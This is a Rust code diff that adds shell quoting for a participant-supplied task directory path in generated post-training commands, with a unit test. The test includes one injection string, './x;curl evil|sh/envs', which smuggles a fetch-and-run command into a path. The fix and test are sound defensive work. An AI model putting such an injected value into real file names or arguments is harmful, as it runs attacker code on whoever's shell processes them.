@@ -118,6 +118,8 @@ pub fn posttrain(record: &EnvironmentRecord, report: &Report) -> PostTrain {
         } else {
             "tasks"
         };
+    // The entry path is the participant's: quoted, so a directory name cannot add shell commands.
+    let tasks_path = sh_quote(&format!("{root}/{tasks_dir}"));
     let leaky: Vec<String> = report
         .task_list
         .iter()
@@ -132,10 +134,10 @@ pub fn posttrain(record: &EnvironmentRecord, report: &Report) -> PostTrain {
     if eligible >= 4 {
         // Every fourth task is held out before anything is added, so no attempt at it reaches the SFT data.
         commands.push(format!(
-            "mkdir -p {local}-heldout/{tasks_dir} && ls {root}/{tasks_dir} | awk 'NR % 4 == 0' | xargs -I% mv {root}/{tasks_dir}/% {local}-heldout/{tasks_dir}/"
+            "mkdir -p {local}-heldout/{tasks_dir} && ls {tasks_path} | awk 'NR % 4 == 0' | xargs -I% mv {tasks_path}/% {local}-heldout/{tasks_dir}/"
         ));
     }
-    commands.push(format!("posttrain env add {root}/{tasks_dir} --name {env_name}"));
+    commands.push(format!("posttrain env add {tasks_path} --name {env_name}"));
     commands.push(format!("posttrain eval MODEL --bench env:{env_name} --limit 4{set_root}"));
     if eligible >= 4 {
         commands.extend([
@@ -159,6 +161,15 @@ pub fn posttrain(record: &EnvironmentRecord, report: &Report) -> PostTrain {
     }
 }
 
+/// A word for `sh`: as it is when it holds only safe characters, else single-quoted.
+pub fn sh_quote(s: &str) -> String {
+    if !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"._/-".contains(&b)) {
+        s.to_string()
+    } else {
+        format!("'{}'", s.replace('\'', "'\\''"))
+    }
+}
+
 impl RepoType {
     pub fn parse(s: &str) -> Option<RepoType> {
         match s {
@@ -166,5 +177,17 @@ impl RepoType {
             "github" => Some(RepoType::Github),
             _ => None,
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn shell_words_are_quoted_when_they_need_it() {
+        assert_eq!(sh_quote("./arena-1/envs"), "./arena-1/envs");
+        assert_eq!(sh_quote("./x;curl evil|sh/envs"), "'./x;curl evil|sh/envs'");
+        assert_eq!(sh_quote("it's"), "'it'\\''s'");
     }
 }
